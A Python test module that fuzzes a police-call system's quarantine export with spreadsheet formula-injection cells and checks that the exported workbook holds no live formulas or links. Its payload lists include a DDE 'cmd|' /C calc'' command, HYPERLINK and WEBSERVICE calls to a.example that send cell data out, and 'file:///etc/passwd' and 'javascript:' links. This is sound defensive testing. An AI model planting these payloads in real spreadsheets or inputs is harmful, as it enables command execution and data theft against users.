"""Cells that a spreadsheet would take for formulas, links or commands.

In: an office, how many cells. Out: the row: rows with such cells and headers go into quarantine, are exported by the command, and the workbook
holds no formula and no link; what is read back is what was shown, and trying the rows again changes nothing. Not here: bombs (`workbooks`).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Mapping
from itertools import islice
from pathlib import Path
from random import Random
from typing import Any

from adapters.sheets import read_sheets, write_sheets
from engine.desk.quarantine import NUMBER, REASON
from tests.attacks.measure import Outcome
from tests.console import Console

_SEED = 10
_WIDTH = 10
_LONGEST = 32_767
_NOW = ("--now", "2025-03-10T09:00:00")
_LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    " =",
    "\u200b=",
    "\ufeff=",
    "{=",
    "%0A=",
    ";=",
    "|",
)
_TAILS = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example/?"&A1,"x")', 'WEBSERVICE("http://a.example")',
          "IMPORTXML(A1,B1)", "DDE('a';'b';'c')", "'file:///etc/passwd'#$a.A1", 'RTD("x",,"y")', "A1}", "1", 'EXEC("x")')  # fmt: skip
_LINKS = ("http://a.example", "https://a.example/?q=1", "ftp://a.example", "mailto:a@a.example", "internal:Sheet1!A1", "external:c:\\x.xlsx",
          "file:///etc/passwd", "javascript:alert(1)")  # fmt: skip
_ODD = ("_x0041_", "_x000D_", "a\x00b", "a\x01b", "a\x0bb", "a\ufffeb", "a\uffffb", "a\r\nb", " 空格 ", "<f>1+1</f>", "]]></t><f>1</f>", "&lt;f&gt;",
        "00123", "1e5", "TRUE", "#REF!", "\u202e1+1=", "😀=1", "长" * 32_767, "长" * 32_768, "=" + "1+" * 20_000 + "1")  # fmt: skip
_NUMBERS: tuple[Any, ...] = (7, -7, 12_345, 1.5, 13_800_000_001_0, 110_101_199_001_011_237, 2**53 + 1, True, None)
_FORMULA = re.compile(r"<f[\s>/]")


def cells(seed: int = _SEED) -> Iterator[Any]:
    """Texts and numbers without end; the first are every odd one once."""
    rng = Random(f"formulas/{seed}")
    yield from (*_ODD, *_LINKS, *_NUMBERS)
    yield from (lead + tail for lead in _LEADS for tail in _TAILS)
    while True:
        lead = "".join(rng.choices(_LEADS, k=rng.randint(1, 3)))
        yield f"{lead}{rng.choice(_TAILS)}{rng.choice(('', '', ' ', rng.choice(_LINKS)))}"


def headers() -> list[str]:
    """Columns nobody knows, each a formula."""
    pairs = islice(zip(_LEADS, _TAILS, strict=False), _WIDTH - 2)
    return [*(f"{lead}{tail}" for lead, tail in pairs), "=" + "长" * 40, "<f>1</f>"]


def _rows(count: int) -> list[dict[str, Any]]:
    """Rows that quarantine holds, for their time cannot be read; all cells of them are of the attack."""
    source, columns = cells(), headers()
    return [
        {"接警单编号": f"F{number}", "报警时间": "昨天", **dict(zip(columns, islice(source, _WIDTH), strict=True))}
        for number in range(count // _WIDTH)
    ]


def row(office: Console, count: int) -> Outcome:
    """So many cells through the real export."""
    rows = _rows(count)
    (office.folder / "f.jsonl").write_text("\n".join(json.dumps(one) for one in rows), encoding="utf-8")
    config = office.folder / "config.yaml"
    feed = json.dumps([{"name": "=1+1|[x]", "kind": "police_110", "location": "f.jsonl"}])
    config.write_text(config.read_text(encoding="utf-8").replace("sources: []", f"sources: {feed}"), encoding="utf-8")
    office.ok("ingest", "--file", "f.jsonl", "--source", "=1+1|[x]", *_NOW)
    before = _held(office)
    office.ok("quarantine", "export", "--file", "f.xlsx")
    path = office.folder / "f.xlsx"
    violations = [*live(path), *_differences(before, path)]
    office.ok("quarantine", "retry", "--file", "f.xlsx", *_NOW)
    violations += _changes(before, _held(office))
    violations += [f"{len(before)} of {len(rows)} rows stand in quarantine"] if len(before) != len(rows) else []
    names, held = _sheet_names(office.folder / "names.xlsx")
    return sum(len(one) - 2 for one in rows) + names, [*violations, *held]


def _held(office: Console) -> dict[int, Mapping[str, Any]]:
    """The cells of every row in quarantine, as a person is shown them."""
    lines = office.ok("quarantine", "list", "--limit", "1000000", "--json").lines
    return {one["id"]: one["values"] for one in lines}


def live(path: Path) -> list[str]:
    """Formulas, links and names in a workbook's parts; with LibreOffice, also what it makes of them."""
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    found = [f"{name}: {len(_FORMULA.findall(text))} formulas" for name, text in parts.items() if _FORMULA.search(text)]
    found += [
        f"{name}: {what}"
        for name, text in parts.items()
        for what in ("<hyperlink", "<definedName", 'TargetMode="External"', "<ddeLink", "<oleLink")
        if what in text
    ]
    return found + [f"a part {name}" for name in parts if "external" in name.lower()] + _by_office(path)


def _by_office(path: Path) -> list[str]:
    """What LibreOffice takes for a formula, where there is one."""
    soffice = shutil.which("soffice")
    if soffice is None:
        return []
    folder = path.parent / "opened"
    profile = f"-env:UserInstallation={(path.parent / 'profile').as_uri()}"
    command = [soffice, profile, "--headless", "--convert-to", "fods", "--outdir", str(folder), str(path)]
    subprocess.run(command, check=True, capture_output=True)
    count = (folder / f"{path.stem}.fods").read_text(encoding="utf-8").count("table:formula=")
    return [f"LibreOffice sees {count} formulas"] if count else []


def _differences(before: Mapping[int, Mapping[str, Any]], path: Path) -> Iterator[str]:
    """Cells of the workbook that are not what the screen showed."""
    for cells_ in read_sheets(path, header=NUMBER):
        shown = before[int(cells_[NUMBER])]
        for header, cell in shown.items():
            if not _comes_out(_text(cell), _text(cells_.get(header))):
                yield f"row {cells_[NUMBER]}: exported {_short(cell)}, the file has {_short(cells_.get(header))}"
        strange = set(cells_) - shown.keys() - {NUMBER, REASON} - set(headers())
        if strange:
            yield f"row {cells_[NUMBER]}: columns that nobody wrote: {sorted(strange)}"


def _comes_out(shown: str, written: str) -> bool:
    """Whether a file says what the screen does; of what no workbook can hold it says as much as it can."""
    if len(shown) > _LONGEST:
        return written[: _LONGEST - 100] == shown[: _LONGEST - 100] and "原文太长" in written
    return shown.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd") == written


def _changes(before: Mapping[int, Mapping[str, Any]], after: Mapping[int, Mapping[str, Any]]) -> list[str]:
    """Cells that are others after the untouched file was tried again."""
    old = {one["接警单编号"]: one for one in before.values()}
    new = {one["接警单编号"]: one for one in after.values()}
    return [
        f"tried again untouched: {_short(cell)} became {_short(new.get(id_, {}).get(header))}"
        for id_, one in old.items()
        for header, cell in one.items()
        if _text(cell) != _text(new.get(id_, {}).get(header))
    ]


def _text(cell: object) -> str:
    return "" if cell is None else str(cell)


def _short(cell: object) -> str:
    text = ascii(cell)
    return text if len(text) <= 50 else f"{text[:30]}… of {len(str(cell)):,}"


def _sheet_names(path: Path) -> tuple[int, list[str]]:
    """Names of sheets, and a header beside them, that look like formulas."""
    names = [f"{lead}{tail}" for lead in _LEADS for tail in _TAILS[:4]] + list(_LINKS)
    write_sheets(path, {name: [{NUMBER: number, name: name}] for number, name in enumerate(names)})
    back = {one[NUMBER]: one for one in read_sheets(path, header=NUMBER)}
    lost = [
        f"sheet {name!r}: the cell is not its own"
        for number, name in enumerate(names)
        if back[number].get(name) != name
    ]
    return len(names), [*live(path), *lost]


def careless(path: Path, formula: str) -> Path:
    """The control: a workbook as a careless writer makes it."""
    import openpyxl  # type: ignore[import-untyped]

    book = openpyxl.Workbook()
    book.create_sheet("一")["A1"] = formula
    book.save(path)
    return path
